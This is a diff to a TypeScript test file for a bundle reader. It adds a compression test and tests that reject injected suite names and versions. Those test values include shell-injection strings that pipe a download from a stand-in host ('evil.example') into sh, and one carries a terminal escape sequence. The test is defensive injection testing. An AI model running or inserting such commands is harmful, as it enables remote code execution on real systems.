@@ -1,9 +1,10 @@
+import { createHash } from "node:crypto";
 import fc from "fast-check";
 import { expect, test } from "vitest";
 import type { Evidence } from "../evidence/evidence.ts";
 import { delivery, exchange } from "../evidence/testing/recorded.ts";
 import { grade, type Run } from "../suite/grade.ts";
-import { readBundle, serializeVerdicts, writeBundle } from "./bundle.ts";
+import { encodeBundle, readBundle, serializeVerdicts, writeBundle } from "./bundle.ts";
 import { canonicalJson } from "./canonical-json.ts";
 
 const manifest = exchange({
@@ -45,6 +46,17 @@ test("the same run gives the same bytes, and grading them gives the same verdict
   expect(writeBundle(again)).toBe(first);
 });
 
+test("is compressed if its file name says so, and reads the same, with the same digest", async () => {
+  const text = writeBundle(await createRun());
+  expect(encodeBundle("bundle.json", text)).toBe(text);
+  const packed = Buffer.from(encodeBundle("bundle.json.gz", text));
+  expect(packed.length).toBeLessThan(text.length / 1.5);
+  expect(readBundle(packed)).toEqual(readBundle(Buffer.from(text)));
+  expect(() => readBundle(packed.subarray(0, 100))).toThrow(
+    expect.objectContaining({ code: "not_a_bundle" }),
+  );
+});
+
 test("stores shared evidence once", async () => {
   const text = writeBundle(await createRun());
   expect(text.split(shared.bodyBase64)).toHaveLength(2);
@@ -79,6 +91,27 @@ test.each([
 ])("%s: %s", async (code, _, change) => {
   const text = change(writeBundle(await createRun()));
   expect(() => readBundle(Buffer.from(text))).toThrow(expect.objectContaining({ code }));
+});
+
+test.each([
+  ["name", "evil-package; curl http://evil.example|sh;"],
+  ["version", "1.0.0; curl http://evil.example|sh"],
+  ["version", "1.0.0\u001b[2J"],
+])("a bundle's suite %s cannot add to the command that a refusal names", async (member, value) => {
+  const { sha256: _, ...content } = JSON.parse(writeBundle(await createRun()));
+  content.suite[member] = value;
+  content.requirement_set.count = 1;
+  content.requirement_set.sha256 = "0".repeat(64);
+  const sha256 = createHash("sha256").update(canonicalJson(content)).digest("hex");
+  const bytes = Buffer.from(`${canonicalJson({ ...content, sha256 })}\n`);
+  let message = "";
+  try {
+    readBundle(bytes);
+  } catch (error) {
+    message = (error as Error).message;
+  }
+  expect(message).toMatch(new RegExp(`At /suite/${member}: `));
+  expect(message).not.toMatch(/evil|\u001b/);
 });
 
 test("canonical JSON is identical for equal values and parses to the same value", () => {
